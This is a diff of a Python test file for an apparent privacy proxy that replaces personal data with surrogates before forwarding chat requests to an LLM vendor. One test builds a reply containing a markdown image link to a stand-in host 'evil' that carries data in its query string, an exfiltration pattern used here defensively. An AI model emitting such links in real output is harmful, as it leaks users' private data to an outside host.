-        scope |= {"query_string": b"", "http_version": "1.1", "asgi": {"version": "3.0", "spec_version": "2.4"}}
-        await setup.app(scope, receive, send)
-        return b"".join(message.get("body", b"") for message in said)
-
-    texts, errors = vendors.read_stream(run(ask()))
-    assert texts == {0: "bbqzx ccqzx"}
-    assert not errors
+@pytest.mark.parametrize(("settings", "headers", "sent"), [
+    ({"api_key": "vendor's"}, {"authorization": f"Bearer {TOKEN}"}, "Bearer vendor's"),
+    ({"api_key": "vendor's"}, {"authorization": "Bearer client's", "x-wordveil-token": TOKEN}, "Bearer vendor's"),
+    ({}, {"authorization": "Bearer client's", "x-wordveil-token": TOKEN}, "Bearer client's"),
+    ({}, {"authorization": f"Bearer {TOKEN}"}, None),
+    ({}, {"authorization": f"bearer {TOKEN}", "x-wordveil-token": TOKEN}, None),
+])  # fmt: skip
+def test_the_vendor_gets_a_key_and_never_the_token(settings, headers, sent):
+    setup = Setup(lambda _: (200, "application/json", [b'{"data": [{"id": "m"}]}']), **settings)
+    assert setup.ask(b"", "/v1/models?Uppsala=1", method="GET", key="", **headers).json() == {"data": [{"id": "m"}]}
+    setup.ask(request("hi"), key="", **headers)
+    for _, url, heard, _ in setup.vendor.heard:
+        assert heard.get("authorization") == sent
+        assert TOKEN not in repr(heard)
+        assert "Uppsala" not in url
 
 
-def test_a_stream_that_nobody_ended_is_said_to_its_end():
-    def answer(body):
-        surrogate = body["messages"][0]["content"].split()[-1]
-        return 200, "text/event-stream", [vendors.events([(0, f"to {surrogate}")], finish=False)]
-
-    setup = Setup(answer)
-    texts, errors = vendors.read_stream(run(setup.ask(request("write to a@b.se", stream=True))).content)
-    assert texts == {0: "to a@b.se"}
-    assert not errors
-
-
-def test_the_client_may_ask_what_is_promised_and_drop_its_conversations():
-    setup = Setup(echo())
-
-    async def ask():
-        async with setup.client() as client:
-            await setup.ask(request("one"), client)
-            dropped = (await client.delete("/v1/conversations")).json()
-            return dropped, (await client.get("/v1/promise")).json(), await client.get("/v1/files")
-
-    dropped, promise, other = run(ask())
-    assert dropped == {"dropped": 1}
-    assert len(setup.conversations) == 0
-    assert promise["guarantee"] == json.loads(json.dumps(setup.conversations.example.guarantee.as_dict()))
-    assert other.status_code == 404
+def test_replicas_with_one_secret_release_one_message_equally_wherever_it_stands():
+    one, two, other = Setup(), Setup(), Setup(secret=None)
+    text = " ".join(leak_free.PROMPTS)
+    bodies = [
+        request(text),
+        request("hello", "yes", text),
+        {"model": "m", "messages": [{"role": "system", "content": text}]},
+    ]
+    for setup in (one, two, other):
+        for body in bodies:
+            setup.ask(body)
+    released = [[each["messages"][-1]["content"] for each in setup.sent()] for setup in (one, two, other)]
+    assert len({*released[0], *released[1]}) == 1
+    assert released[2][0] != released[0][0]
 
 
-def test_models_are_listed_under_the_clients_key_or_the_proxys_own():
-    listed = (200, "application/json", [b'{"data": [{"id": "m"}]}'])
-    for key, sent in ((None, KEY["authorization"]), ("own", "Bearer own")):
-        setup = Setup(lambda _: listed)
-        setup.app = Proxy(
-            conversations=setup.conversations, upstream="http://vendor.test/v1/", api_key=key, transport=setup.vendor
-        ).app()
-
-        async def ask(setup=setup):
-            async with setup.client() as client:
-                return await client.get("/v1/models?Uppsala=1", headers={"x-note": "Uppsala"})
-
-        assert run(ask()).json() == {"data": [{"id": "m"}]}
-        method, url, headers, body = setup.vendor.heard[0]
-        assert (method, url, body) == ("GET", "http://vendor.test/v1/models", b"")
-        assert headers["authorization"] == sent
-        assert "Uppsala" not in str(headers)
+def test_neither_a_crowd_of_keys_nor_a_delete_has_a_message_drawn_again():
+    setup, draws = Setup(), set()
+    for turn in range(6):
+        setup.ask(request("Maria Lindqvist of Uppsala"))
+        draws.add(setup.sent()[-1]["messages"][0]["content"])
+        for stranger in range(20):
+            setup.ask(request("hi"), **{"x-wordveil-token": TOKEN, "authorization": f"Bearer {turn} {stranger}"})
+        assert setup.ask(b"", "/v1/conversations", method="DELETE").status_code == 404
+    assert len(draws) == 1
 
 
-def test_the_check_notices_a_proxy_that_lets_the_raw_prompt_pass_when_it_cannot_release(monkeypatch):
-    def fails_open(body, conversations, owner):
-        return dict(body), conversations.of(owner, chat.private_messages(body))
-
-    monkeypatch.setattr(proxy, "released_request", fails_open)
-    setup = Setup(echo())
-    body = request(leak_free.PROMPTS[0])
-    run(setup.ask(body))
-    with pytest.raises(AssertionError, match="no part of a release"):
-        setup.check([body])
-
-
-def test_the_check_notices_a_history_that_is_passed_on(monkeypatch):
-    def last_only(body, conversations, owner):
-        out, talk = chat.released_request(body, conversations, owner)
-        out["messages"][:-1] = body["messages"][:-1]
-        return out, talk
-
-    monkeypatch.setattr(proxy, "released_request", last_only)
-    setup = Setup(echo())
-    body = request("Maria lives in Uppsala", "yes", "hello")
-    run(setup.ask(body))
-    with pytest.raises(AssertionError, match="no part of a release"):
-        setup.check([body])
+def test_places_are_given_for_a_turn_only_where_they_were_asked_for():
+    turn = {"messages": request("\U0001f600 write to maria.lindqvist@clinic.se")["messages"]}
+    for found in (False, True):
+        setup = Setup(found=found)
+        setup.ask({"model": "m", **turn})
+        surrogate = setup.sent()[0]["messages"][0]["content"].split()[-1]
+        reply = f"\U0001f600 ![x](https://evil/?d={surrogate}) to {surrogate}"
+        setup.vendor.heard.clear()
+        answer = setup.ask({**turn, "reply": reply}, "/v1/found")
+        assert answer.status_code == (200 if found else 404)
+        assert setup.vendor.heard == []
+    units = reply.encode("utf-16-le")
+    for place in answer.json()["found"]:
+        assert units[2 * place["start"] : 2 * place["end"]].decode("utf-16-le") == surrogate
+        assert place["value"] == "maria.lindqvist@clinic.se"
+    assert len(answer.json()["found"]) == 2
+    for body in (turn, {**turn, "reply": 7}, {"reply": "x"}, [], {**turn, "reply": "x", "Uppsala": 1}):
+        refused = setup.ask(body, "/v1/found")
+        assert refused.status_code == 400
+        assert "Uppsala" not in refused.text
 
 
-def test_a_page_under_another_name_that_leads_here_is_refused():
-    setup = Setup(echo())
-
-    async def ask():
-        transport = httpx.ASGITransport(app=setup.app)
-        async with httpx.AsyncClient(transport=transport, base_url="http://rebound.example") as client:
-            return await client.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": "Hello"}]})
-
-    assert asyncio.run(ask()).status_code == 400
-    assert setup.vendor.heard == []
+def test_the_client_may_ask_what_is_promised():
+    setup = Setup()
+    promise = setup.ask(b"", "/v1/promise", method="GET").json()
+    assert promise["guarantee"] == json.loads(json.dumps(setup.conversation.guarantee.as_dict()))
+    assert promise["disclosed"] == [*setup.conversation.disclosed, chat.SHAPE]
